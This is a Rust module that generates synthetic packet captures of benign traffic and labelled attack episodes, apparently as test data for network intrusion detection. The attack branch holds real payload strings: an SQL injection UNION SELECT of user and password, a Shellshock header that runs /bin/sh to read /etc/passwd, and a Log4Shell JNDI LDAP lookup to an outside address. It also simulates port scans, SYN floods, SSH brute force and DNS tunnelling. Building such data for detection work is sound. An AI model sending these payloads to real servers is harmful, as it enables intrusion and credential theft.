//! Traffic scenarios for the generator: each returns one session's frames with timestamps in
//! microseconds from the start of the capture.

use super::build::{self, Host, ACK, FIN, PSH, SYN, URG};
use super::rng::Rng;

type Frames = Vec<(u64, Vec<u8>)>;

const PATHS: [&str; 8] = [
    "/",
    "/index.html",
    "/api/v1/items?page=2",
    "/static/app.js",
    "/images/logo.png",
    "/login",
    "/search?q=weather",
    "/docs/getting-started",
];
const AGENTS: [&str; 3] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "curl/8.5.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
];
const NAMES: [&str; 10] = [
    "www.example.com",
    "api.example.org",
    "cdn.example.net",
    "mail.example.com",
    "updates.example.org",
    "time.example.net",
    "docs.example.com",
    "static.example.org",
    "login.example.com",
    "news.example.net",
];

fn client(rng: &mut Rng) -> Host {
    Host::new([
        10,
        1,
        u8::try_from(rng.below(8)).unwrap_or(0),
        u8::try_from(rng.range(2, 250)).unwrap_or(2),
    ])
}
fn server(rng: &mut Rng) -> Host {
    Host::new([192, 0, 2, u8::try_from(rng.range(10, 20)).unwrap_or(10)])
}
fn attacker(rng: &mut Rng) -> Host {
    Host::new([203, 0, 113, u8::try_from(rng.range(5, 9)).unwrap_or(5)])
}
fn resolver() -> Host {
    Host::new([10, 1, 0, 53])
}
fn eph(rng: &mut Rng) -> u16 {
    u16::try_from(rng.range(32768, 60999)).unwrap_or(40000)
}

/// A full TCP session: handshake, request, response segments, teardown.
fn tcp_session(
    rng: &mut Rng,
    t: u64,
    c: Host,
    s: Host,
    dport: u16,
    request: &[u8],
    response_len: usize,
) -> Frames {
    let sport = eph(rng);
    let (mut cs, mut ss) = (rng.next_u64() as u32, rng.next_u64() as u32);
    let rtt = rng.range(200, 3000);
    let mut f = Vec::with_capacity(12);
    let mut t = t;
    f.push((t, build::tcp(c, s, sport, dport, cs, 0, SYN, &[])));
    t += rtt;
    f.push((
        t,
        build::tcp(s, c, dport, sport, ss, cs + 1, SYN | ACK, &[]),
    ));
    cs += 1;
    ss += 1;
    t += 20;
    f.push((t, build::tcp(c, s, sport, dport, cs, ss, ACK, &[])));
    if !request.is_empty() {
        t += 30;
        f.push((
            t,
            build::tcp(c, s, sport, dport, cs, ss, PSH | ACK, request),
        ));
        cs += request.len() as u32;
    }
    let mut left = response_len;
    let body = [b'x'; 1400];
    while left > 0 {
        let n = left.min(1400);
        t += rtt / 2 + 10;
        let mut seg = Vec::with_capacity(n);
        if left == response_len {
            seg.extend_from_slice(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n");
        }
        seg.extend_from_slice(&body[..n.saturating_sub(seg.len())]);
        f.push((t, build::tcp(s, c, dport, sport, ss, cs, PSH | ACK, &seg)));
        ss += seg.len() as u32;
        left -= n;
        t += 15;
        f.push((t, build::tcp(c, s, sport, dport, cs, ss, ACK, &[])));
    }
    t += 40;
    f.push((t, build::tcp(c, s, sport, dport, cs, ss, FIN | ACK, &[])));
    t += rtt;
    f.push((
        t,
        build::tcp(s, c, dport, sport, ss, cs + 1, FIN | ACK, &[]),
    ));
    t += 20;
    f.push((t, build::tcp(c, s, sport, dport, cs + 1, ss + 1, ACK, &[])));
    f
}

fn http_request(rng: &mut Rng, path: &str) -> Vec<u8> {
    let ua = rng.pick(&AGENTS);
    format!(
        "GET {path} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n"
    )
    .into_bytes()
}

fn dns_exchange(rng: &mut Rng, t: u64, c: Host, name: &str, qtype: u16, answer: bool) -> Frames {
    let (id, sport) = (rng.u16(), eph(rng));
    let q = build::dns_query(id, name, qtype);
    let mut f = vec![(t, build::udp(c, resolver(), sport, 53, &q))];
    if answer {
        let addr = [192, 0, 2, u8::try_from(rng.range(10, 20)).unwrap_or(10)];
        let a = build::dns_answer_a(id, name, Some(addr));
        f.push((
            t + rng.range(300, 5000),
            build::udp(resolver(), c, 53, sport, &a),
        ));
    }
    f
}

/// One benign session.
pub fn benign(rng: &mut Rng, t: u64) -> Frames {
    let c = client(rng);
    match rng.below(100) {
        0..=59 => {
            let path = *rng.pick(&PATHS);
            let req = http_request(rng, path);
            let len = usize::try_from(rng.range(200, 6000)).unwrap_or(500);
            let s = server(rng);
            tcp_session(rng, t, c, s, 80, &req, len)
        }
        60..=79 => {
            let name = *rng.pick(&NAMES);
            dns_exchange(rng, t, c, name, 1, true)
        }
        80..=87 => {
            let s = server(rng);
            let sport = eph(rng);
            let payload = [0x23u8; 48];
            vec![
                (t, build::udp(c, s, sport, 123, &payload)),
                (t + 800, build::udp(s, c, 123, sport, &payload)),
            ]
        }
        88..=94 => {
            let s = server(rng);
            let id = rng.u16();
            (0..4u16)
                .flat_map(|i| {
                    let at = t + u64::from(i) * 1_000_000;
                    [
                        (at, build::icmp_echo(c, s, id, i, false, &[0x61; 32])),
                        (at + 900, build::icmp_echo(s, c, id, i, true, &[0x61; 32])),
                    ]
                })
                .collect()
        }
        _ => {
            let len = usize::try_from(rng.range(500, 3000)).unwrap_or(500);
            let s = server(rng);
            tcp_session(rng, t, c, s, 443, &[0x16, 0x03, 0x01, 0x00, 0x40], len)
        }
    }
}

/// One failed SSH login connection as hydra makes it: handshake, banners, a few encrypted
/// password tries, then sshd closes the connection (its MaxAuthTries) and the client follows.
fn ssh_attempt(at: u64, a: Host, v: Host, sport: u16, tries: u64) -> Frames {
    let (cb, sb) = (b"SSH-2.0-libssh_0.10.4\r\n", b"SSH-2.0-OpenSSH_9.6\r\n");
    let (mut cs, mut ss) = (1u32, 9u32);
    let mut f = vec![
        (at, build::tcp(a, v, sport, 22, cs - 1, 0, SYN, &[])),
        (
            at + 300,
            build::tcp(v, a, 22, sport, ss - 1, cs, SYN | ACK, &[]),
        ),
        (at + 500, build::tcp(a, v, sport, 22, cs, ss, ACK, &[])),
        (
            at + 2_000,
            build::tcp(v, a, 22, sport, ss, cs, PSH | ACK, sb),
        ),
        (
            at + 2_400,
            build::tcp(a, v, sport, 22, cs, ss, PSH | ACK, cb),
        ),
    ];
    ss += sb.len() as u32;
    cs += cb.len() as u32;
    let (try_req, try_fail) = ([0x5au8; 100], [0xa5u8; 52]);
    let mut t = at + 20_000;
    for _ in 0..tries {
        f.push((t, build::tcp(a, v, sport, 22, cs, ss, PSH | ACK, &try_req)));
        cs += try_req.len() as u32;
        f.push((
            t + 2_000,
            build::tcp(v, a, 22, sport, ss, cs, PSH | ACK, &try_fail),
        ));
        ss += try_fail.len() as u32;
        t += 40_000;
    }
    f.push((t, build::tcp(v, a, 22, sport, ss, cs, FIN | ACK, &[])));
    f.push((
        t + 300,
        build::tcp(a, v, sport, 22, cs, ss + 1, FIN | ACK, &[]),
    ));
    f.push((
        t + 600,
        build::tcp(v, a, 22, sport, ss + 1, cs + 1, ACK, &[]),
    ));
    f
}

/// hydra's SSH brute force: four parallel tasks, each reconnecting as soon as sshd drops it,
/// so one attacker opens a dozen-odd connections to port 22 within a second or two.
fn ssh_brute_force(rng: &mut Rng, t: u64, a: Host, victim: Host) -> Frames {
    const TASKS: u64 = 4;
    const ROUNDS: u64 = 4;
    let mut f = Vec::new();
    for task in 0..TASKS {
        let mut at = t + task * rng.range(500, 8_000);
        for _ in 0..ROUNDS {
            let tries = rng.range(2, 4);
            f.extend(ssh_attempt(at, a, victim, eph(rng), tries));
            at += 20_000 + tries * 40_000 + rng.range(1_000, 5_000);
        }
    }
    f
}

/// One attack episode.
pub fn attack(rng: &mut Rng, t: u64) -> Frames {
    let a = attacker(rng);
    let victim = server(rng);
    match rng.below(8) {
        0 => (0..60u64)
            .map(|i| {
                let port = u16::try_from(rng.range(1, 1024)).unwrap_or(80);
                (
                    t + i * 200,
                    build::tcp(a, victim, 45000, port, 1000, 0, SYN, &[]),
                )
            })
            .collect(),
        1 => {
            let flags = if rng.chance(0.5) { FIN | PSH | URG } else { 0 };
            (0..25u64)
                .map(|i| {
                    (
                        t + i * 300,
                        build::tcp(
                            a,
                            victim,
                            45001,
                            u16::try_from(20 + i).unwrap_or(20),
                            7,
                            0,
                            flags,
                            &[],
                        ),
                    )
                })
                .collect()
        }
        2 => ssh_brute_force(rng, t, a, victim),
        3 => {
            let req = b"GET /dvwa/vulnerabilities/sqli/?id=1%27+UNION+SELECT+user%2Cpassword+FROM+users--+&Submit=Submit HTTP/1.1\r\nHost: victim\r\nUser-Agent: sqlmap/1.8\r\n\r\n";
            tcp_session(rng, t, a, victim, 80, req, 800)
        }
        4 => {
            let req = b"POST /cgi-bin/status HTTP/1.1\r\nHost: victim\r\nUser-Agent: () { :; }; /bin/sh -c 'cat /etc/passwd'\r\nContent-Length: 0\r\n\r\n";
            tcp_session(rng, t, a, victim, 80, req, 300)
        }
        5 => {
            let c = client(rng);
            (0..30u64)
                .flat_map(|i| {
                    let label: String = (0..50)
                        .map(|_| {
                            char::from(
                                b"0123456789abcdef"[usize::try_from(rng.below(16)).unwrap_or(0)],
                            )
                        })
                        .collect();
                    let name = format!("{label}.{i}.t.tunnel-example.com");
                    dns_exchange(rng, t + i * 50_000, c, &name, 16, true)
                })
                .collect()
        }
        6 => (0..300u64)
            .map(|i| {
                let spoofed =
                    Host::new([198, 51, 100, u8::try_from(rng.range(1, 254)).unwrap_or(1)]);
                (
                    t + i * 50,
                    build::tcp(
                        spoofed,
                        victim,
                        eph(rng),
                        80,
                        rng.next_u64() as u32,
                        0,
                        SYN,
                        &[],
                    ),
                )
            })
            .collect(),
        _ => {
            let req = b"GET /app?q=${jndi:ldap://203.0.113.7:1389/a} HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.7/x}\r\n\r\n";
            tcp_session(rng, t, a, victim, 8080, req, 200)
        }
    }
}
